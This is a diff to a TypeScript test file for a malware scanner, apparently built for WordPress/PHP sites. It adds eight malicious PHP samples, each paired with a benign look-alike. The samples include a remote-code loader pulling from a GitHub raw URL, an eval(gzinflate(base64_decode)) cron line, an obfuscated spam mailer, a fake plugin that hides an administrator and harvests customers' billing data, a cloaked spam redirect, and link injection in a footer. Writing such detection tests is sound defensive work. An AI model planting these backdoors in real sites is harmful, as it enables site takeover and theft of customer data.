@@ -1,5 +1,6 @@
 import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
+import { deflateRawSync } from 'node:zlib';
 import { createScanner } from './scanner.js';
 
 // Session 44: the misses of its fair samples (bench/redteam/README-corpus-s44.md) and families no sample held, each
@@ -7,6 +8,211 @@ import { createScanner } from './scanner.js';
 const scanner = createScanner({});
 const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
 const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;
+
+// A stand-in payload, deflated and in base64 (what it says does not matter: the call that runs it is the finding).
+const BLOB = deflateRawSync(Buffer.from(Array.from({ length: 300 }, (_, i) => `// line ${i} of a stand-in ${(i * 7919) % 1000}`).join('\n'))).toString('base64');
+// Letters in an order of their own, and names picked out of them one index at a time.
+const LETTERS = 'qZ4v_Xe1mTgB0nK8wLr2PaYc9sHd5oJf3uNi6hRz7yMtDlWbExGkVpSjCAFIOQU';
+const pick = (held: string, name: string) => [...name].map((c) => `$${held}[${LETTERS.indexOf(c)}]`).join('.');
+const b64 = (t: string) => Buffer.from(t).toString('base64');
+
+const PAGES: [string, string, string][] = [
+  [
+    'a loader whose address is in base64: fetched with a browser\'s name, decoded, written to tempnam(), required and deleted (H46)',
+    '/srv/www/wp-content/uploads/n.php',
+    `<?php function get_it($u){$o=array('http'=>array('method'=>'GET','header'=>"User-Agent: Mozilla/5.0\\r\\n"),'ssl'=>array('verify_peer'=>false));return file_get_contents($u,false,stream_context_create($o));}
+$where=base64_decode('${b64('https://raw.githubusercontent.com/someone/kit/main/fm.php')}');$got=base64_decode(get_it($where));$t=tempnam(sys_get_temp_dir(),'x');file_put_contents($t,$got);require_once $t;unlink($t);?>`,
+  ],
+  [
+    'a read-only browser: any folder the request names listed with dir(), any file it names printed line by line (H46)',
+    '/srv/www/look.php',
+    `<?php
+$d = $_GET['d'] ?? null;
+$f = $_GET['f'] ?? null;
+if ($f) {
+  echo "<pre>";
+  $h = @fopen($f, 'r');
+  if (!$h) die("cannot open $f");
+  while (!feof($h)) echo htmlspecialchars(fgets($h));
+  fclose($h);
+  echo "</pre>";
+} else {
+  $d = $d ?: './';
+  $dir = @dir($d);
+  if (!$dir) die("cannot open $d");
+  while (($e = $dir->read()) !== false) {
+    if ($e === '.' || $e === '..') continue;
+    echo is_dir($d . $e) ? "<a href='?d=$d$e/'>$e/</a><br>" : "<a href='?f=$d$e'>$e</a><br>";
+  }
+  $dir->close();
+}
+`,
+  ],
+  [
+    'a cPanel cron job kept as text: the PHP binary given eval(gzinflate(base64_decode(..))) to run (H49)',
+    '/var/spool/cron/site-job.txt',
+    `/usr/local/bin/php -r 'eval(gzinflate(base64_decode("${BLOB}")));' >/dev/null 2>&1\n`,
+  ],
+  [
+    'a spam mailer whose function names are a table in $GLOBALS decoded from base64, its fields named by a function of their own (H49)',
+    '/srv/www/wp-content/plugins/x/m.php',
+    `<? $GLOBALS['_5521_']=Array(base64_decode('${b64('base64_decode')}'),base64_decode('${b64('base64_decode')}'),base64_decode('${b64('base64_decode')}'),base64_decode('${b64('mail')}')); ?><? function _k($i){$a=Array('${b64('rcpt')}','${b64('subj')}','${b64('text')}','${b64('hdrs')}');return base64_decode($a[$i]);} ?><?php $_0=$GLOBALS['_5521_'][0]($_POST[_k(0)]);$_1=$GLOBALS['_5521_'][1]($_POST[_k(1)]);$_2=$GLOBALS['_5521_'][2]($_POST[_k(2)]);$_3=$GLOBALS['_5521_'][3]($_0,$_1,$_2,base64_decode($_POST[_k(3)]));echo $_3 ? 'ok' : 'fail'; ?>`,
+  ],
+  [
+    'a fake cache plugin picking its decoders\' names letter by letter out of a shuffled string, then eval of what they make of a blob (H49)',
+    '/srv/www/wp-content/plugins/super-cache-x/admin.php',
+    `%PDF-
+<?php
+/**
+ * Plugin Name: Cache Helper
+ * Version: 1.0
+ */
+$q = "${LETTERS}"; $one = ${pick('q', 'gzinflate')}; $two = ${pick('q', 'base64_decode')}; $blob = "${BLOB}"; eval($one($two($blob)));`,
+  ],
+  [
+    'a must-use plugin hiding one administrator from the users list and the REST API, hiding the must-use plugins from Site Health, and copying every paid order\'s customer into an option (H49)',
+    '/srv/www/wp-content/mu-plugins/user-filter.php',
+    `<?php
+if (!defined('ABSPATH')) exit;
+add_action('pre_user_query', function ($q) {
+  $id = (int) get_option('_hidden_uid');
+  if (!$id) return;
+  global $wpdb;
+  $q->query_where .= $wpdb->prepare(" AND {$wpdb->users}.ID != %d", $id);
+});
+add_filter('rest_user_query', function ($args) {
+  $args['exclude'][] = (int) get_option('_hidden_uid');
+  return $args;
+});
+add_filter('debug_information', function ($info) {
+  foreach (array_keys($info['wp-mu-plugins']['fields'] ?? []) as $k) if (stripos($k, 'user-filter') !== false) unset($info['wp-mu-plugins']['fields'][$k]);
+  return $info;
+});
+add_action('woocommerce_payment_complete', function ($oid) {
+  $o = wc_get_order($oid);
+  $row = json_encode(['e' => $o->get_billing_email(), 'p' => $o->get_billing_phone(), 's' => $o->get_total()]);
+  update_option('_wc_stats_cache', get_option('_wc_stats_cache', '') . $row . "\\n", 'no');
+});
+`,
+  ],
+  [
+    'a spam landing page checking its own host against Spamhaus\'s DBL, a 404 if listed, else random words and a redirect in shifted character codes (H49)',
+    '/srv/www/wp-content/plugins/reflex/r.php',
+    `<?php
+function words($n) { $w = ['river', 'stone', 'lamp', 'quiet', 'orange', 'field']; $o = []; for ($i = 0; $i < $n; $i++) $o[] = $w[array_rand($w)]; return implode(' ', $o); }
+$r = gethostbyname($_SERVER['HTTP_HOST'] . '.dbl.spamhaus.org');
+if (preg_match('/^127\\.0\\.1/', $r)) { header('HTTP/1.1 404 Not Found'); exit; }
+$to = array_map(fn($c) => ord($c) + 7, str_split('http://pills.example/?a=1'));
+echo '<html><head><title>' . words(4) . '</title></head><body><p>' . words(60) . '</p><script>var k=7,b=[' . implode(',', $to) . '],s="";for(var i=0;i<b.length;i++)s+=String.fromCharCode(b[i]-k);window.location.href=s;</script></body></html>';
+`,
+  ],
+  [
+    'a theme footer with a block added after wp_footer(): a fixed address fetched by file_get_contents, then curl, as a browser, and printed (H49)',
+    '/srv/www/wp-content/themes/shop/footer.php',
+    `  </div><!-- /page -->
+  <?php wp_footer(); ?>
+<?php
+$src = "https://links.example.net/bl/";
+function grab($u) {
+  if (ini_get('allow_url_fopen') && ($d = @file_get_contents($u))) return $d;
+  if (function_exists('curl_init')) { $c = curl_init($u); curl_setopt_array($c, [CURLOPT_RETURNTRANSFER => 1, CURLOPT_USERAGENT => 'Mozilla/5.0', CURLOPT_TIMEOUT => 10]); $d = curl_exec($c); curl_close($c); if ($d) return $d; }
+  return '';
+}
+echo grab($src);
+?>
+</body>
+</html>`,
+  ],
+];
+
+const LOOKALIKES: [string, string, string][] = [
+  [
+    'a template engine compiling a template to a temporary file and including it (no address fetched)',
+    '/srv/www/lib/tpl.php',
+    `<?php
+function render($name, array $vars) {
+  $src = file_get_contents(__DIR__ . '/views/' . basename($name) . '.tpl');
+  $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $src);
+  $t = tempnam(sys_get_temp_dir(), 'tpl');
+  file_put_contents($t, $php);
+  extract($vars);
+  include $t;
+  unlink($t);
+}
+`,
+  ],
+  [
+    'a log viewer listing its own log folder and printing the log the request names, by its base name',
+    '/srv/www/admin/logs.php',
+    `<?php
+const LOGS = '/var/log/shop/';
+if (!current_user_can('manage_options')) exit;
+if (isset($_GET['f'])) {
+  $h = fopen(LOGS . basename($_GET['f']), 'r');
+  while ($h && !feof($h)) echo htmlspecialchars(fgets($h));
+} else {
+  $d = dir(LOGS);
+  while (($e = $d->read()) !== false) if ($e[0] !== '.') echo "<a href='?f=" . urlencode($e) . "'>" . htmlspecialchars($e) . "</a><br>";
+}
+`,
+  ],
+  [
+    'a crontab running a PHP one-liner that prints the version, and a maintenance script',
+    '/var/spool/cron/notes.txt',
+    `0 3 * * * /usr/bin/php -r 'echo phpversion(), PHP_EOL;' >> /var/log/php-version.log
+30 3 * * * /usr/bin/php /srv/www/wp-cron.php >/dev/null 2>&1
+`,
+  ],
+  [
+    'a table of formatters kept in $GLOBALS and called by index on request input',
+    '/srv/www/lib/fmt.php',
+    `<?php
+$GLOBALS['fmt'] = array('trim', 'strtolower', 'htmlspecialchars');
+$name = $GLOBALS['fmt'][0]($_POST['name'] ?? '');
+$slug = $GLOBALS['fmt'][1]($name);
+echo $GLOBALS['fmt'][2]($slug);
+`,
+  ],
+  [
+    'an agency\'s published snippet hiding its support login from the users list and the count',
+    '/srv/www/wp-content/mu-plugins/hide-support.php',
+    `<?php
+add_action('pre_user_query', function ($user_search) {
+  global $current_user, $wpdb;
+  if ($current_user->user_login !== 'agency-support') {
+    $user_search->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND {$wpdb->users}.user_login != 'agency-support'", $user_search->query_where);
+  }
+});
+add_filter('views_users', function ($views) {
+  $views['all'] = preg_replace_callback('/\\((\\d+)\\)/', fn($m) => '(' . ($m[1] - 1) . ')', $views['all']);
+  return $views;
+});
+`,
+  ],
+  [
+    'an anti-spam plugin looking up the visitor\'s address in Spamhaus\'s ZEN and refusing a listed one',
+    '/srv/www/wp-content/plugins/dnsbl/check.php',
+    `<?php
+$ip = $_SERVER['REMOTE_ADDR'];
+$rev = implode('.', array_reverse(explode('.', $ip)));
+if (preg_match('/^127\\.0\\.0\\./', gethostbyname($rev . '.zen.spamhaus.org'))) {
+  header('HTTP/1.1 403 Forbidden');
+  exit('Your address is listed: https://www.spamhaus.org/lookup/');
+}
+`,
+  ],
+  [
+    'a theme footer printing a partner\'s banner fetched through the WordPress HTTP API',
+    '/srv/www/wp-content/themes/shop/footer.php',
+    `  <?php wp_footer(); ?>
+<?php
+$banner = "https://partners.example.com/banner.html";
+$r = wp_remote_get($banner, ['timeout' => 5]);
+if (!is_wp_error($r)) echo wp_kses_post(wp_remote_retrieve_body($r));
+?>
+</body></html>`,
+  ],
+];
 
 const FAMILIES: [string, string, string][] = [
   [
@@ -114,6 +320,23 @@ header('Location: /index.php');
 `,
   ],
 ];
+
+describe('scan: session 44 samples, the misses written again', () => {
+  for (const [name, path, src] of PAGES) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', why(r));
+    });
+  }
+  it('ran every page', () => assert.equal(PAGES.length, 8));
+  for (const [name, path, src] of LOOKALIKES) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', why(r));
+    });
+  }
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 7));
+});
 
 describe('scan: families written from their published shapes (session 44)', () => {
   for (const [name, path, src] of FAMILIES) {
